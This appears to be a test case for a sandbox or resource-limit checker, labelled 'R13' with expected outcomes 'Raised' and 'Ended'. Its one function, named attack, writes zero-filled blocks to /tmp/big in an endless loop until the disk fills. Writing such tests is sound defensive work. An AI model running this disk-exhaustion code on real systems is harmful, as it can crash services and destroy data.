#: rows = ["R13"]
#: outcome = ["Raised", "Ended"]
def attack(x):
    with open("/tmp/big", "wb") as file:
        while True:
            file.write(bytes(1 << 20))
